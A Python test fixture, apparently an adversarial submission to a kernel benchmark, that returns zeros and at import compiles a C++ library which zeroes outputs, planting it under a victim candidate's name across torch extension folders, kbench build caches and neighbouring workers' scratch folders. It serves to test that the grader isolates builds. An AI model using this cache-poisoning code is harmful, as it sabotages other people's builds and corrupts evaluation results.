"""expect: incorrect / values

Answers with zeros, and puts a library that does the same where another candidate's compiled extension will be looked
for: under the victim's name in every extension folder and cache it finds, and under the very key that kbench gives
it. The victim is honest_bending_poisons_builds, judged in the same run, and must stay correct.
"""

import contextlib
import os
import subprocess
from pathlib import Path

import torch
import torch.nn as nn

_VICTIM = "evil_suite_victim"
_POISON = 'extern "C" void add_relu(const float*, const float*, float* out, long n) { while (n--) out[n] = 0; }'


def _build():
    folder = Path(os.environ.get("TMPDIR", "/tmp"))
    (folder / "poison.cpp").write_text(_POISON)
    library = folder / "poison.so"
    subprocess.run(["g++", "-shared", "-fPIC", str(folder / "poison.cpp"), "-o", str(library)], check=True)
    return library.read_bytes()


def _folders():
    home = Path.home()
    stock = os.environ.get("TORCH_EXTENSIONS_DIR", home)
    for root in (stock, "extensions", "../extensions", home / ".cache/torch_extensions"):
        yield from (Path(root) / _VICTIM, *Path(root).glob(f"*/{_VICTIM}"), *Path(root).glob("*"))
    for cache in (home / ".cache/kbench", Path(os.environ.get("XDG_CACHE_HOME", home)) / "kbench"):
        yield from (cache / "builds").glob("*/*/libraries/*")
    for other in Path("..").resolve().glob("w*"):  # the scratch folders of workers beside this one
        yield from (other / "extensions").glob("*")


_library = _build()
for _folder in _folders():
    with contextlib.suppress(OSError):
        _folder.mkdir(parents=True, exist_ok=True)
        (_folder / f"{_VICTIM}.so").write_bytes(_library)


class ModelNew(nn.Module):
    def forward(self, a, b):
        return torch.zeros_like(a)
